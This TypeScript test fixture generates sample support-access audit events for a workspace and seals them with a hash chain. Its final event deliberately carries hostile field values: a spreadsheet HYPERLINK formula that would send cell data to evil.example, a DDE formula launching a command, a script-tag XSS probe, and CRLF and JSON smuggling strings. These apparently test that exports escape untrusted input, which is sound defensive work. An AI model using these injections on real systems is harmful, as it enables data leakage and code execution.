import { toEpochMs, toInstant } from '#domain';
import type { SupportAccessEvent } from '#domain';
import { RecordedEvent } from '#event-store';
import type { EventMetadata } from '#event-store';
import { sealEvents, ZERO_CHAIN } from '#evidence';

const STREAM = 'supportAccess-acme';
const FIRST_AT = '2026-11-22T09:30:00.000Z';
const workspaceId = 'acme';
const ada = { id: 'ada', kind: 'user', name: 'Ada Lovelace', email: 'ada@acme.example' } as const;
const [grantId, sessionId] = ['0192f0c0-0000-7000-8000-00000000aaaa', '0192f0c0-0000-7000-8000-00000000bbbb'];
const address = { ipAddress: '203.0.113.7', userAgent: 'Mozilla/5.0 (X11; Linux x86_64)' };

/** In the order of one workspace's stream: each type, and what a type looks like in other circumstances. */
const EVENTS: readonly ((at: string) => SupportAccessEvent)[] = [
  (at) => ({
    type: 'WorkspaceUpdated',
    data: {
      workspaceId,
      name: 'Acme & Söhne',
      tier: 'business',
      forcedSso: false,
      ownerIds: ['ada', 'bob'],
      at,
    },
  }),
  (at) => ({
    type: 'SupportAccessGranted',
    data: {
      workspaceId,
      grantId,
      grantedBy: ada,
      grantedAt: at,
      expiresAt: '2026-11-29T09:31:00.000Z',
      ticketId: 'T-4711',
      reason: 'exports time out',
    },
  }),
  (at) => ({
    type: 'SupportLogin',
    data: {
      workspaceId,
      grantId,
      sessionId,
      engineer: { id: 'eve', name: 'Eve', email: 'eve@vendor.example' },
      at,
      sessionExpiresAt: '2026-11-22T10:32:00.000Z',
      ticketId: 'T-4711',
      ...address,
    },
  }),
  (at) => ({
    type: 'SupportAccessRevoked',
    data: {
      workspaceId,
      grantId,
      cause: 'revoked',
      revokedBy: { ...ada, sessionId },
      at,
      expiresAt: '2026-11-29T09:31:00.000Z',
      reason: 'solved',
    },
  }),
  (at) => ({
    type: 'SupportAccessDenied',
    data: {
      workspaceId,
      attempted: 'RecordSupportLogin',
      code: 'NO_ACTIVE_GRANT',
      by: { id: 'eve', kind: 'engineer', name: 'Eve' },
      at,
      ...address,
    },
  }),
  (at) => ({
    type: 'SupportAccessRevoked',
    data: {
      workspaceId,
      grantId,
      cause: 'expired',
      revokedBy: { id: 'system', kind: 'system' },
      at,
      expiresAt: '2026-11-22T09:34:59.750Z',
    },
  }),
  (at) => ({
    type: 'SupportAccessDenied',
    data: {
      workspaceId,
      attempted: 'GrantSupportAccess',
      code: 'ALREADY_GRANTED',
      by: ada,
      at,
      grantId,
      expiresAt: '2026-11-29T09:31:00.000Z',
    },
  }),
  (at) => ({
    type: 'SupportAccessDenied',
    data: {
      workspaceId,
      attempted: 'RevokeSupportAccess',
      code: 'NOT_WORKSPACE_OWNER',
      by: { id: 'mallory', kind: 'vendor', email: 'not an address' },
      at,
    },
  }),
  // What senders may say, and what no reader may stumble over.
  (at) => ({
    type: 'SupportLogin',
    data: {
      workspaceId,
      grantId,
      sessionId,
      engineer: {
        id: 'initiator',
        name: '=HYPERLINK("http://evil.example?"&A1,"x")',
        email: "@SUM(1+1)*cmd|' /C calc'!A0",
      },
      at,
      sessionExpiresAt: '2026-11-22T10:38:00.000Z',
      reason: '-1\r\n"quoted", \u2028{"type":"SupportAccessGranted"}\t🦉',
      ipAddress: 'unix:@socket',
      userAgent: '+31 20 555\n<script>alert(1)</script>',
    },
  }),
];

/** As they would be recorded, a minute apart, sealed with their real chain. */
export function sampleEvents(): RecordedEvent[] {
  const drafts = EVENTS.map((make, i) => {
    const at = toInstant(toEpochMs(FIRST_AT) + i * 60_000);
    const id = `0192f0c0-0000-7000-8000-${String(i + 1).padStart(12, '0')}`;
    return { ...make(at), id, metadata: metadataOf(i, at) };
  });
  return sealEvents(STREAM, 'empty', ZERO_CHAIN, drafts).map(
    ({ id, type, dataJson, metadataJson, chain }, i) =>
      new RecordedEvent(BigInt(10 * i + 3), STREAM, i, id, type, dataJson, metadataJson, chain),
  );
}

function metadataOf(i: number, recordedAt: string): EventMetadata {
  const commandId = `command-${i}`;
  return {
    commandId,
    commandHash: String(i).repeat(64),
    correlationId: `request-${i}`,
    causationId: commandId,
    schemaVersion: 1,
    recordedAt,
    source:
      i % 2 === 0
        ? { kind: 'http' }
        : { kind: 'kafka', topic: 'support-access.commands', partition: 3, offset: '7' },
    ...(i === 2 && { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' }),
  };
}
